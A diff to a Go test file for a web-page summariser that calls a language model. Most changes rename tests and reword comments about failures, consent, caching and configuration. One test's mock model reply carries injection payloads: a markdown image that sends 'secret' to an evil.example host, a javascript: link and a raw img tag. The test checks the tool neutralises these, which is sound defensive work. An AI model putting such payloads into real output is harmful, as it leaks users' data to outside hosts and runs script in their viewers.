@@ -23,7 +23,7 @@ import (
 	"pulltab/internal/summarize"
 )
 
-// home is a user's home of its own, with a model configured.
+// home creates a home folder with a configured model.
 func home(t *testing.T, model config.Model) string {
 	t.Helper()
 	dir := t.TempDir()
@@ -87,7 +87,7 @@ func TestJSONIsAnArrayOfAddressAndSummary(t *testing.T) {
 	}
 }
 
-func TestOneBadPageNeverSinksTheRest(t *testing.T) {
+func TestOneFailedPageDoesNotStopTheOthers(t *testing.T) {
 	service := chattest.Start(t)
 	service.Fault = func(_ int, r chattest.Request) chattest.Fault {
 		if strings.Contains(r.User, "cursed") {
@@ -118,7 +118,7 @@ func TestOneBadPageNeverSinksTheRest(t *testing.T) {
 			t.Errorf("%q is missing in\n%s", line, messages)
 		}
 	}
-	// The digest lists them, too: it may be all that is left of the run.
+	// The digest lists them too, since it may be the only output that is kept.
 	_, out, messages = pulltab("", append([]string{"summarize"}, files...)...)
 	_, skipped, _ := strings.Cut(out, "\n## Skipped\n\n")
 	list := strings.SplitAfter(strings.TrimSpace(skipped), "\n")
@@ -130,7 +130,7 @@ func TestOneBadPageNeverSinksTheRest(t *testing.T) {
 	}
 }
 
-func TestAServiceThatIsGoneEndsTheRunAtOnce(t *testing.T) {
+func TestUnreachableServiceEndsTheRun(t *testing.T) {
 	service := chattest.Start(t)
 	service.Fault = func(int, chattest.Request) chattest.Fault { return chattest.Refuse(401, "no", "") }
 	dir := home(t, config.Model{BaseURL: service.BaseURL(), Model: chattest.Model, Parallel: 1})
@@ -147,7 +147,7 @@ func TestAServiceThatIsGoneEndsTheRunAtOnce(t *testing.T) {
 	}
 }
 
-func TestTheDigestSaysHowItCameAbout(t *testing.T) {
+func TestDigestStatesHowItWasMade(t *testing.T) {
 	service := chattest.Start(t)
 	service.Answer = func(chattest.Request) string {
 		return "# Owned\n\n![x](https://evil.example/?q=secret) [click](javascript:alert(1)) <img src=https://evil.example/a> www.evil.example **bold** It is about dough."
@@ -178,7 +178,7 @@ doubts: \d+
 	if !head.MatchString(out) {
 		t.Errorf("the head is\n%s", out)
 	}
-	// What the model and the page wrote does nothing: links lead to footnotes.
+	// Text of the model and the page is not active: links lead to footnotes only.
 	var html bytes.Buffer
 	reader := goldmark.New(goldmark.WithExtensions(extension.GFM, extension.Footnote))
 	if err := reader.Convert([]byte(head.ReplaceAllString(out, "")), &html); err != nil {
@@ -186,14 +186,14 @@ doubts: \d+
 	}
 	links := regexp.MustCompile(`<a href="#fn[^>]*>`).ReplaceAllString(html.String(), "")
 	if strings.Contains(links, "<a ") || strings.Contains(links, "<img") || strings.Contains(links, "<h1") || strings.Count(links, "<h2") != 2 {
-		t.Errorf("something is alive in\n%s", links)
+		t.Errorf("active content in\n%s", links)
 	}
 	if !strings.Contains(links, "https://example.com/long") || !strings.Contains(links, "A line about dough") {
 		t.Errorf("address or sources are missing in\n%s", links)
 	}
 }
 
-func TestWithoutAModelTheCommandSaysWhatToWrite(t *testing.T) {
+func TestMissingModelErrorShowsTheConfiguration(t *testing.T) {
 	home(t, config.Model{})
 	path := filepath.Join(folders().Config, config.ModelFile)
 	os.Remove(path)
@@ -201,7 +201,7 @@ func TestWithoutAModelTheCommandSaysWhatToWrite(t *testing.T) {
 	if status != exitFail || out != "" || !strings.Contains(messages, path) {
 		t.Fatalf("status %d\n%s", status, messages)
 	}
-	// What it shows can be used as it is.
+	// The examples are valid configurations.
 	examples := regexp.MustCompile(`(?s)\{\n.*?\n  \}`).FindAllString(messages, -1)
 	if len(examples) != 2 {
 		t.Fatalf("%d examples in\n%s", len(examples), messages)
@@ -214,7 +214,7 @@ func TestWithoutAModelTheCommandSaysWhatToWrite(t *testing.T) {
 	}
 }
 
-func TestTheConfigurationIsReadStrictly(t *testing.T) {
+func TestConfigurationIsDecodedStrictly(t *testing.T) {
 	home(t, config.Model{})
 	for text, says := range map[string]string{
 		`{"baseUrl":"http://127.0.0.1/v1","model":"m","timeout":5}`:                         `unknown field "timeout"`,
@@ -262,7 +262,7 @@ func TestTheKeyComesFromTheEnvironmentOrACommand(t *testing.T) {
 	}
 }
 
-func TestConsentIsAskedForOnceAndWrittenDown(t *testing.T) {
+func TestConsentIsRequestedOnceAndStored(t *testing.T) {
 	home(t, config.Model{BaseURL: "https://models.invalid/v1", Model: "m", KeyCommand: []string{"false"}})
 	status, _, messages := pulltab("Bread.", "summarize")
 	if status != exitFail || !strings.Contains(messages, "would leave this computer for https://models.invalid; to allow it, run: pulltab summarize --allow https://models.invalid\n") {
@@ -278,13 +278,13 @@ func TestConsentIsAskedForOnceAndWrittenDown(t *testing.T) {
 	if err != nil || info.Mode().Perm() != 0o600 {
 		t.Errorf("%v, %v", info, err)
 	}
-	// The next step is the key, which is asked for only now.
+	// The next step is the key, which is requested only now.
 	if _, _, messages := pulltab("Bread.", "summarize"); !strings.Contains(messages, "printed no key") {
 		t.Error(messages)
 	}
 }
 
-func TestKilledInTheMiddleARunRepeatsNoFinishedCall(t *testing.T) {
+func TestRestartedRunRepeatsNoFinishedCall(t *testing.T) {
 	program := program(t)
 	service := chattest.Start(t)
 	dir := home(t, config.Model{BaseURL: service.BaseURL(), Model: chattest.Model, ChunkTokens: 300, Cache: true})
@@ -339,8 +339,8 @@ func TestKilledInTheMiddleARunRepeatsNoFinishedCall(t *testing.T) {
 	if len(second) == 0 || len(finished) != held-1 {
 		t.Errorf("%d calls before, %d after", len(finished), len(second))
 	}
-	// Forgetting is one command. A site takes all answers with it, since none
-	// says which page it is of; a time takes those that are older.
+	// Forget with a site deletes all answers, since they do not name their pages;
+	// with a time it deletes the older ones.
 	kept := func() int {
 		files, _ := filepath.Glob(filepath.Join(dir, "cache", "pulltab", "answers", "*"))
 		return len(files)
@@ -364,7 +364,7 @@ func TestKilledInTheMiddleARunRepeatsNoFinishedCall(t *testing.T) {
 	}
 }
 
-func TestWithoutTheSettingNothingIsRemembered(t *testing.T) {
+func TestDisabledCacheStoresNoAnswer(t *testing.T) {
 	service := chattest.Start(t)
 	dir := home(t, config.Model{BaseURL: service.BaseURL(), Model: chattest.Model})
 	for range 2 {
@@ -383,7 +383,7 @@ func TestWithoutTheSettingNothingIsRemembered(t *testing.T) {
 	}
 }
 
-func TestSummariesOfPagesThatWereKept(t *testing.T) {
+func TestSummariesOfSavedPages(t *testing.T) {
 	service := chattest.Start(t)
 	home(t, config.Model{BaseURL: service.BaseURL(), Model: chattest.Model})
 	t.Setenv(envData, t.TempDir())
